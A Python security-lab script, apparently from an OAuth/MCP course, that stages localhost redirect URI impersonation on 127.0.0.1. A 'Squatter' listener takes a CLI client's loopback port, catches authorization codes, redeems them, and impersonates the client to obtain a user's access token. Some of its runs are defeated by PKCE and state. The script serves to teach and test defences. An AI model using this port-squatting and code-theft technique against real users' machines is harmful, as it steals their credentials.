"""Localhost redirect URI impersonation, run three times: a program on the user's machine takes the client's port.

    python -m 03-oauth-mcp.labs.localhost_redirect

A command-line client's redirect URI is a port on 127.0.0.1, and any program on the machine may
listen on a port. The attacker's program, the squatter, does so twice. First it takes the client's
port before the client does, to catch the code the browser brings back: against a client and an
authorization server without PKCE, and against lesson 03's. Then it poses as the client itself: it
starts a login of its own with the client's client_id and redirect URI, and listens there (the best
practices' "Localhost Redirect URI Impersonation"). The user plays along in a browser each time.
The servers run in the lab's own process, everything on 127.0.0.1, and all of it stops at the end.
"""

import logging
import re
import tempfile
import threading
from contextlib import ExitStack
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from importlib import import_module
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

LESSON = "03-oauth-mcp"
stage = import_module(f"{LESSON}.labs.stage")


class Squatter:
    """The attacker's program on the user's machine: it listens on a loopback port and keeps what the browser brings."""

    def __init__(self, port: int) -> None:
        self.caught: list[dict[str, str]] = []
        squatter = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                squatter.caught.append(stage.query_of(self.path))
                body = b"Authorization received. You can close this."  # what the client would have said
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.http = ThreadingHTTPServer(("127.0.0.1", port), Handler)
        threading.Thread(target=self.http.serve_forever, args=(0.05,), daemon=True).start()

    def stop(self) -> None:
        self.http.shutdown()
        self.http.server_close()


def consent_page(html: str) -> str:
    """What the consent page says of who asks and where the answer goes, as the user reads it."""
    said = re.findall(r'<h1>(.*?)</h1>|<p class="host">(.*?)</p>|<p class="warning">(.*?)</p>', html, re.S)
    text = [re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", "".join(parts))).strip() for parts in said]
    return f'"{text[0]}"; sent to: {text[1]}; "{text[2]}"'


def main() -> None:
    print(
        "Localhost redirect: a program on the user's machine listens where the browser brings the login back.",
        flush=True,  # at once: the servers take a second to start
    )
    import anyio
    from mcp.client.auth import OAuthFlowError

    logging.getLogger("mcp.client.auth").setLevel(logging.CRITICAL)  # the lab reports each outcome itself
    callback = import_module(f"{LESSON}.client.callback")
    oauth = import_module(f"{LESSON}.client.oauth")
    FileTokenStorage = import_module(f"{LESSON}.client.token_storage").FileTokenStorage
    vulnerable = import_module(f"{LESSON}.labs.localhost_redirect.vulnerable")

    async def connect(mcp_url: str, token_file: Path, port: int, open_page: Any) -> str:
        """Lesson 03's client connects to `mcp_url`, its redirect URI on `port`; what happened, in a few words."""
        storage, loopback = FileTokenStorage(token_file, mcp_url), callback.LoopbackCallback(port)
        provider = oauth.CheckedOAuthProvider(mcp_url, storage, loopback, open_page=open_page)
        outcome = ""
        try:
            async with stage.signed_in(mcp_url, provider) as client:
                who = (await client.call_tool("whoami", {})).structured_content or {}
                outcome = f"connected: whoami -> {who.get('subject')!r}"
        except* OAuthFlowError as refusal:
            outcome = f"refused: {refusal.exceptions[0]}"
        return outcome

    with tempfile.TemporaryDirectory() as state, ExitStack() as stack:
        plain_port, issuer_port, mcp_port, fixed = (stage.free_port() for _ in range(4))
        plain, issuer = f"http://127.0.0.1:{plain_port}", f"http://127.0.0.1:{issuer_port}"
        resource = f"http://127.0.0.1:{mcp_port}/mcp"
        with vulnerable.pkce_optional():
            without_pkce = stage.authorization_server(plain, Path(state) / "plain.db", resource)
        lesson = stage.authorization_server(issuer, Path(state) / "auth.db", resource)
        servers = (without_pkce, plain_port), (lesson, issuer_port), (stage.mcp_server(issuer, resource), mcp_port)
        stack.enter_context(stage.serving(*servers))

        print("1. A client with no PKCE and no state, that listens on its fixed port late, at an authorization server")
        print("   that does not insist on PKCE (labs/localhost_redirect/vulnerable.py):")
        squatter = Squatter(fixed)
        print("   the squatter listens on the client's fixed port first")
        client = vulnerable.PlainClient(plain, resource, fixed, stage.http())
        outcome = client.log_in(stage.the_user_approves)
        print(
            "   the user logs in and approves; her browser brings the code back to the port:"
            f" {len(squatter.caught)} caught"
        )
        print(f"   the client: {outcome}")
        code = squatter.caught[0]["code"]
        redeemed = stage.redeem(plain, client.client_id, client.redirect_uri, code)
        token = redeemed.json().get("access_token")
        subject = stage.claims_of(token)["sub"] if token else None
        print(
            f"   the squatter redeems the code, with no verifier: HTTP {redeemed.status_code}, a token for {subject!r}"
        )
        stage.verdict(f"the squatter holds an access token for {subject!r}, for the MCP server" if token else None)

        print("2. Lesson 03's client and authorization server: a port of its own, state, PKCE (client/callback.py,")
        print("   client_extras/callback_http.py, auth_server/oauth.py S256Required):")
        sent: list[str] = []

        async def record(url: str) -> None:
            sent.append(url)

        outcome = anyio.run(connect, resource, Path(state) / "a.json", fixed, record)
        outcome = outcome.replace(f"http://127.0.0.1:{fixed}/callback", "its redirect URI")
        print(f"   the squatter holds the client's port first; the user is sent {'to log in' if sent else 'nowhere'}")
        print(f"   the client: {outcome}")
        squatter.stop()
        told: list[str] = []

        def the_browser_and_the_squatter(url: str) -> None:
            """The squatter watches the listening ports, and the browser's history; the user logs in."""
            request = stage.query_of(url)
            forged = stage.browser().get(f"{request['redirect_uri']}?{urlencode({'code': 'one-of-its-own'})}")
            ignored = "ignored: it lacks this login's state" if forged.status_code == 400 else "taken"
            told.append(
                "   the squatter finds the port, and calls it with a code of its own:"
                f" HTTP {forged.status_code}, {ignored}"
            )
            back, _ = stage.the_user_approves(url, follow=False)
            code = stage.query_of(back)["code"]
            tried = stage.redeem(issuer, request["client_id"], request["redirect_uri"], code)
            error = tried.json()
            told.append("   the user approves; the squatter reads the code on its way, in the browser's history, and")
            told.append(
                f"   redeems it first, without the verifier: HTTP {tried.status_code} {error.get('error')},"
                f" {error.get('error_description')!r}"
            )
            with stage.browser() as user_agent:
                user_agent.get(back)

        async def open_page(url: str) -> None:
            sent.append(url)
            threading.Thread(target=the_browser_and_the_squatter, args=(url,), daemon=True).start()

        sent.clear()
        outcome = anyio.run(connect, resource, Path(state) / "b.json", 0, open_page)
        print(
            "   with --callback-port 0 the client listens on a free port, a new one for this login, and sends the user"
        )
        print(*told, sep="\n")
        if "invalid_grant" in outcome:  # the authorization server takes one attempt per code: the squatter's spent it
            outcome = "refused (invalid_grant): the squatter's attempt spent the code; a code is redeemed once"
        print(f"   the client redeems it, with the verifier: {outcome}")
        outcome = anyio.run(connect, resource, Path(state) / "b.json", 0, stage.open_in_browser)
        print(f"   the user logs in again: {outcome}")
        stage.verdict(
            None if outcome.endswith("'alice'") else outcome,
            "a port the client holds first, `state` and PKCE",
            "the squatter caught nothing on the port, its forged callback was ignored, and a code it read on its way "
            "was worth nothing without the verifier",
        )

        print(
            "3. The squatter poses as lesson 03's client: its own login, with the client's client_id and redirect URI"
        )
        request = stage.query_of(sent[-1])  # the client's last login, in the browser's history
        client_id, redirect_uri = request["client_id"], request["redirect_uri"]
        attacker = Squatter(int(redirect_uri.split(":")[2].split("/")[0]))
        verifier, challenge = stage.pkce_pair()
        own = {"code_challenge": challenge, "code_challenge_method": "S256", "state": "its-own"}
        url = stage.authorization_url(issuer, client_id, redirect_uri, resource, **own)
        print("   it listens on the port of that redirect URI, and sends the user its link: 'Connect your journal'")
        _, page = stage.the_user_approves(url)
        print(f"   the consent page reads: {consent_page(page)}")
        code = attacker.caught[0]["code"] if attacker.caught else ""
        print(
            "   the user approves all the same; her browser brings the code to the squatter:"
            f" {len(attacker.caught)} caught"
        )
        token = stage.redeem(issuer, client_id, redirect_uri, code, code_verifier=verifier).json().get("access_token")
        who = anyio.run(stage.whoami, resource, token)["subject"] if token else None
        print(f"   the squatter redeems it with its own verifier, and calls the MCP server: whoami -> {who!r}")
        attacker.stop()
        stage.verdict(
            f"the squatter, posing as the client, holds a token for {who!r}: PKCE, state and the port were its own; "
            "the consent page named the host and warned, and the user approved"
            if who
            else None
        )


if __name__ == "__main__":
    main()
